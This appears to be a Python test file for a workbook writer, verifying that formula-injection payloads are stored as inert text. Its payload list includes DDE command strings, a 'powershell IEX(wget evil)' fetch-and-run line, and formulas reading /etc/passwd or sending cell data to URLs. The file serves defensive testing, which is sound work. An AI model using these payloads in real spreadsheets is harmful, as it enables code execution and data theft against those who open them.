"""Text stays text, whatever it starts with and holds (hazards F66 to F69)."""

from __future__ import annotations

import io
import re
from fractions import Fraction

import openpyxl
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from exchange.errors import WorkbookInvalid
from outputs.workbook import limits, package
from outputs.workbook.readback import as_read
from outputs.workbook.sheets import Column, Row, Table
from outputs.workbook.write import write
from tests.outputs.books import book, sheet, texts

COMMANDS = (
    "=1+1",
    "=SUM(A1:A9)",
    "=cmd|' /C calc'!A0",
    "=cmd|'/c powershell IEX(wget evil)'!_xlbgnm.A1",
    "=MSEXCEL|'\\..\\..\\..\\Windows\\System32\\cmd.exe /c calc'!''",
    '=HYPERLINK("https://example.org?x="&A1,"Error: click")',
    '=WEBSERVICE("https://example.org/"&A1)',
    '=IMPORTXML(CONCAT("https://example.org/",A1),"//a")',
    '=DDE("cmd";"/C calc";"x")',
    "=rundll32|'URL.dll,OpenURL calc.exe'!A",
    "=INDIRECT(\"'file:///etc/passwd'#$passwd.A1\")",
    "='file:///etc/passwd'#$passwd.A1",
    "=_xlfn.CONCAT(A1)",
    "={1,2;3,4}",
    "=A1",
    "==1",
)
STARTS = ("", "+", "-", "@", "\t", "\r", "\n", " ", "'", '"', ";", ",", "\ufeff", "\u200b")
PAYLOADS = list(
    dict.fromkeys(
        [
            *COMMANDS,
            *(start + command for start in STARTS[1:] for command in COMMANDS[:6]),
            "+1+cmd|' /C calc'!A0",
            "-2+3+cmd|' /C calc'!D2",
            "@SUM(1+1)*cmd|' /C calc'!A0",
            "#N/A",
            "#REF!",
            "#VALUE!",
            "TRUE",
            "false",
            "1e5",
            "0012",
            "12/05/2019",
            "1-2",
            "https://example.org",
            "mailto:nobody@example.org",
            "internal:'Cover'!A1",
            "<r><t>=1+1</t></r>",
            "<r></r>",
            "<f>1+1</f>",
            "</t></si><si><t>",
            "]]><f>1</f>",
            "&lt;f&gt;",
            "_x003D_1+1",
            "_x000D_",
            "_x005F_x000D_",
            "{=1+1}",
            "a\r\nb",
            "line\nline",
            " two  spaces ",
            "well \N{GRINNING FACE}",
            "=\N{FULLWIDTH EQUALS SIGN}1",
            "[c] in a sentence",
        ]
    )
)


def read(content: bytes, name: str = "Narrative", column: int = 2) -> list[object]:
    page = openpyxl.load_workbook(io.BytesIO(content))[name]
    top = next(
        row
        for row in range(1, 20)
        if page.cell(row, 1).value == page.tables[next(iter(page.tables))].tableColumns[0].name
    )
    return [page.cell(row, column).value for row in range(top + 1, page.max_row + 1)]


def test_a_hundred_payloads_are_text():
    assert len(PAYLOADS) >= 100
    content = write(book(texts(*PAYLOADS)))
    assert read(content) == [as_read(each) for each in PAYLOADS]
    sheets = [part for name, part in package.parts(content).items() if name.startswith("xl/worksheets/")]
    assert not [part for part in sheets if re.search(rb"<f[ />]", part)]
    assert not [part for part in sheets if re.search(rb'<c [^>]*t="(?!s")', part)]


def test_text_that_excel_would_take_for_something_else_carries_its_own_mark():
    """Otherwise whoever edits the cell and presses Enter makes a formula of it."""
    content = write(book(texts("=1+1", "0012", "#N/A", "plain words")))
    page = openpyxl.load_workbook(io.BytesIO(content))["Narrative"]
    assert [bool(page.cell(row, 2).quotePrefix) for row in range(5, 9)] == [True, True, True, False]


def test_every_character_of_the_plane_is_kept_or_refused():
    kept = []
    for point in range(0x10000):
        try:
            limits.check_text(f"a{chr(point)}b", "x", "y")
        except WorkbookInvalid:
            continue
        kept.append(chr(point))
    gone = set(range(0x10000)) - {ord(each) for each in kept}
    assert gone == {*range(9), 0xB, 0xC, *range(0xE, 0x20), *range(0xD800, 0xE000), 0xFFFE, 0xFFFF}
    rows = ["a" + "".join(kept[start : start + 200]).replace("\n", "") + "b" for start in range(0, len(kept), 200)]
    assert read(write(book(texts(*rows)))) == [as_read(each) for each in rows]


@pytest.mark.parametrize(
    "text", ["x" * 32_767, "x" + "\N{GRINNING FACE}" * 16_383, "x\n" * 253 + "x"], ids=["letters", "pairs", "lines"]
)
def test_the_longest_text_is_kept_whole(text: str):
    assert read(write(book(texts(text)))) == [text]


words = st.text(st.characters(exclude_categories=("Cs",)), min_size=1, max_size=40).filter(str.strip)
numbers = st.integers(-(10**15) + 1, 10**15 - 1)
rates = st.fractions(-1000, 1000)


def _can_be_written(text: str) -> bool:
    try:
        limits.check_cell(text, "x", "y")
    except WorkbookInvalid:
        return False
    return True


@settings(max_examples=50, deadline=None)
@given(st.lists(st.tuples(words.filter(_can_be_written), numbers, rates), min_size=1, max_size=12))
def test_any_table_reads_back_equal(rows: list[tuple[str, int, Fraction]]):
    columns = (Column("Word", "text"), Column("Number", "count"), Column("Rate", "rate"))
    content = write(book(sheet(Table("Anything", columns, tuple(map(Row, rows))))))
    assert read(content, "Source of referral", 1) == [as_read(word) for word, _, _ in rows]
    assert read(content, "Source of referral", 2) == [number for _, number, _ in rows]
    found = read(content, "Source of referral", 3)
    assert all(abs(each - rate) <= Fraction(1, 10_000) for each, (_, _, rate) in zip(found, rows, strict=True))
